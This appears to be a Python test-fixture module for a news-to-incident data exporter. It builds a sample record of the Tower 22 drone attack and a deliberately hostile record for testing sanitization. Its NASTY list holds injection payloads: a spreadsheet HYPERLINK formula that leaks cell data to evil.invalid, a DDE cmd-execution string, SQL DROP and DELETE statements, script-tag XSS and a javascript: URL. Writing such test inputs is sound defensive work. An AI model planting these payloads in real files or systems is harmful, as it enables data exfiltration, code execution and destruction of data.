"""Nouns made by hand: the attack on Tower 22, and an incident of nothing but hostile text."""

from __future__ import annotations

from dataclasses import replace
from datetime import date

from sayso.export import Material, material
from sayso.model.account import Account, Figure, Party, Said
from sayso.model.claim import Act, Measure
from sayso.model.dates import Precision
from sayso.model.event import EventType, Status
from sayso.model.incident import Contested, Estimate, Grade, Incident, Relation, Side, TollRule, Voice, Weighed
from sayso.model.place import Place, PlacePrecision
from sayso.model.report import Published, Report
from sayso.model.span import Span

TEXT = (
    "RUKBAN, Jordan - A drone struck Tower 22 on January 28. Three service members were killed, US Central Command "
    "said. The Islamic Resistance in Iraq said it was behind the attack."
)
REPORT = Report(
    TEXT,
    title="Drone kills three in Jordan",
    outlet="Sample Herald",
    author="A. Writer",
    published=Published(date(2024, 1, 29)),
    url="https://sample.example/1",
)


def span(words: str, text: str = TEXT) -> Span:
    """Where `words` stand first in `text`."""
    begin = text.index(words)
    return Span(begin, begin + len(words))


SENTENCE = span("Three service members were killed, US Central Command said.")
CENTCOM = Party("US Central Command", "us central command", span("US Central Command"), 8, "US")
RESISTANCE = Party(
    "Islamic Resistance in Iraq", "islamic resistance in iraq", span("Islamic Resistance in Iraq"), 2, "IQ"
)
SOLDIERS = Party("US military", "us military", span("service members"), 8, "US")
CIVILIANS = Party("residents", "residents", span("service members"), 7)
FIGURE = Figure(
    f"{REPORT.id}/t1", Measure.KILLED, 3, 3, "Three", span("Three"), SENTENCE, "service members", CENTCOM, score=0.9
)
TOWER = Place(
    span("Tower 22"), "Tower 22", PlacePrecision.SITE, 33.3142, 38.7033, "JO", "Mafraq",
    within=("Ar Ruwayshid", "Mafraq", "Jordan"), source="sites",
)  # fmt: skip
ACCOUNT = Account(
    f"{REPORT.id}/e1",
    REPORT.id,
    EventType.AIR_DRONE_STRIKE,
    Status.OCCURRED,
    words=("A drone struck Tower 22 on January 28.", SENTENCE.of(TEXT)),
    evidence=(span("A drone struck Tower 22 on January 28."), SENTENCE),
    outlet=REPORT.outlet,
    title=REPORT.title,
    url=REPORT.url,
    published=date(2024, 1, 29),
    first=date(2024, 1, 28),
    last=date(2024, 1, 28),
    precision=Precision.DAY,
    places=(TOWER,),
    countries=("JO",),
    perpetrators=(RESISTANCE,),
    targets=(SOLDIERS,),
    weapons=("drone",),
    claimed_by=(RESISTANCE,),
    figures=(FIGURE,),
    said=(
        Said(
            f"{REPORT.id}/s1",
            Act.CLAIM_RESPONSIBILITY,
            RESISTANCE,
            "The Islamic Resistance in Iraq said it was behind the attack.",
            span("The Islamic Resistance in Iraq said it was behind the attack."),
        ),
    ),
    score=0.93,
)


def estimates(
    low: int | None, best: int | None, high: int | None, who: str | None = None, measure: Measure = Measure.KILLED
) -> tuple[Estimate, ...]:
    """The same range under every rule."""
    weighed = (Weighed(FIGURE, ACCOUNT.id, "us central command", True, "the only figure"),)
    return tuple(Estimate(measure, rule, low, best, high, weighed, "by hand", who) for rule in TollRule)


def incident(**changes: object) -> Incident:
    """Tower 22, with changes."""
    made = Incident(
        "1f" * 8,
        (ACCOUNT,),
        EventType.AIR_DRONE_STRIKE,
        Status.OCCURRED,
        date(2024, 1, 28),
        date(2024, 1, 28),
        Precision.DAY,
        TOWER,
        "JO",
        (RESISTANCE,),
        (SOLDIERS,),
        ("drone",),
        (RESISTANCE,),
        estimates(3, 3, 3),
        (Voice("us central command", "US Central Command", False, ("Sample Herald",), (REPORT.id,)),),
        1,
        ("Sample Herald",),
        contested=(Contested("place", (Side("Jordan", ACCOUNT.id, "in Syria"),), "Jordan says it was in Syria"),),
        grade=Grade.FAIR,
        grade_why="two sources",
        relations=(Relation("retaliation", "2e" * 8, "1f" * 8, REPORT.id, "in retaliation", Span(0, 3)),),
    )
    return replace(made, **changes)  # type: ignore[arg-type]  # by name, as the tests have them


def made(*incidents: Incident, with_text: bool = False, rule: TollRule = TollRule.UCDP_SPAN) -> Material:
    """Material of these incidents and the reports that they may be told in."""
    reports = {REPORT.id: REPORT, HOSTILE_REPORT.id: HOSTILE_REPORT}
    return material(incidents, reports, rule, with_text=with_text)


# Whatever a report may try in a table: formulas, controls, markup, quotation marks, separators, half a character pair.
NASTY = (
    '=HYPERLINK("http://evil.invalid/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r\n=1+1",
    "a;=1+1",
    "x\n@y",
    '"; DROP TABLE incidents; --',
    "'; DELETE FROM claims; --",
    "<script>alert(1)</script>",
    "nul\x00 bell\x07 esc\x1b[2J rtl\u202eevil lone\ud800 end",
    "＝1+1",
    ',,,","\r\n',
    "long " * 8_000,
    " ",
)
ALL_NASTY = " ".join(NASTY[:-2])
HOSTILE_TEXT = ALL_NASTY
HOSTILE_REPORT = Report(
    HOSTILE_TEXT, title=NASTY[0], outlet=NASTY[1], author=NASTY[2], url="javascript:alert(1)", given_id=NASTY[3]
)


def hostile(words: str) -> Incident:
    """An incident whose every text is `words`."""
    whole = Span(0, len(HOSTILE_TEXT))
    party = Party(words, words, whole, 2, "US")
    place = Place(whole, words, PlacePrecision.TOWN, 91.0, 1e300, "XX", words, relation=whole, within=(words, words))
    figure = Figure(f"{words}/t1", Measure.KILLED, None, 10**30, words, whole, whole, words, party, words, 0.5)
    account = Account(
        f"{HOSTILE_REPORT.id}/{words}",
        HOSTILE_REPORT.id,
        EventType.ATTACK,
        Status.CLAIMED,
        (words, words),
        (whole,),
        words,
        words,
        words,
        words,
        date(2024, 2, 3),
        date(2024, 2, 2),
        date(2024, 2, 3),
        Precision.DAYS,
        (place,),
        ("XX",),
        (party,),
        (party,),
        (words,),
        (party,),
        (figure,),
        (Said(f"{words}/s1", Act.ACCUSE, party, words, whole, party),),
        (words,),
    )
    weighed = (Weighed(figure, account.id, words, True, words),)
    return Incident(
        words,
        (account,),
        EventType.ATTACK,
        Status.CLAIMED,
        date(2024, 2, 2),
        date(2024, 2, 3),
        Precision.DAYS,
        place,
        "XX",
        (party,),
        (party,),
        (words,),
        (party,),
        tuple(Estimate(Measure.KILLED, rule, None, 4, None, weighed, words, None) for rule in TollRule),
        (Voice(words, words, False, (words,), (words,)),),
        1,
        (words,),
        ((words, words),),
        (Contested(words, (Side(words, words, words),), words),),
        Grade.WEAK,
        words,
        (),
        (Relation(words, words, words, words, words, whole),),
    )
